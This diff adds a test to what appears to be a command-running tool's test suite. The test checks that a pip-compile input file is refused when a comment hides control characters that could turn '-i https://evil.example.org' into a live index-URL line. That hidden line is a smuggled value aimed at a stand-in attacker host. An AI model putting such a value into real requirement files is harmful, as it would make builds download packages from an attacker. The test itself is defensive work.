@@ -237,3 +237,9 @@ def test_what_is_run(tmp_path: Path, command: str, words: str) -> None:
 def test_what_a_header_is_not_trusted_with(tmp_path: Path, command: str) -> None:
     with pytest.raises(Refused):
         invocation(tmp_path, command)
+
+
+@pytest.mark.parametrize("character", ["\x0b", "\x1b", "\x85", "\u2028"])
+def test_an_input_in_which_a_compiler_may_see_other_lines_is_refused(tmp_path: Path, character: str) -> None:
+    with pytest.raises(Refused, match=r"a\.in has control characters"):
+        invocation(tmp_path, "pip-compile a.in", **{"a.in": f"# c{character}-i https://evil.example.org\n"})
